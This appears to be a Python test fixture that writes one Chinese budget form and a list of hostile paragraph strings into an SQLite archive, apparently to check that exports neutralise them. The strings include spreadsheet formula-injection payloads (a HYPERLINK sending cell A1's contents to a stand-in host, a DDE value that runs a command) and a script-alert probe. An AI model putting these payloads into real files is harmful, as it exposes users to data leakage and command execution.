"""An archive with one form, and paragraphs that would harm a careless program."""

import sqlite3
from contextlib import closing
from pathlib import Path

from tests.pipeline.explore.archives import write_archive
from tests.pipeline.forms import document, national

TEXTS = (
    "",
    "-5",
    '=HYPERLINK("http://x.test/?"&A1,"得分")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "　=1+1",
    "＝1+1",
    "'=1+1",
    "'",
    "<script>alert(1)</script>",
    "<r><t>x</t></r>",
    '甲,"乙",\r\n丙',
    "\x01\x1b[31m\x7f\x00末",
    "_x0041_",
    "\u202e反向\u202c 𠮷 👨\u200d👩\u200d👧 e\u0301 \ufffe\uffff\ufeff",
    " 前后空格 ",
    "NULL",
    "长" * 40_000,
    "𠮷" * 20_000,
)
"""By ordinal, from 1, in `paragraphs`."""


def write_hostile(path: Path) -> str:
    """Fill the archive at `path`; return the id of its document."""
    (identifier,) = write_archive(
        path, document("项目支出绩效自评表", "(2023年度)", national(name="=1+1培训费"))
    )
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("DELETE FROM paragraphs")
        connection.executemany(
            "INSERT INTO paragraphs (document_id, ordinal, text) VALUES (?, ?, ?)",
            [(identifier, ordinal, text) for ordinal, text in enumerate(TEXTS, start=1)],
        )
    return identifier
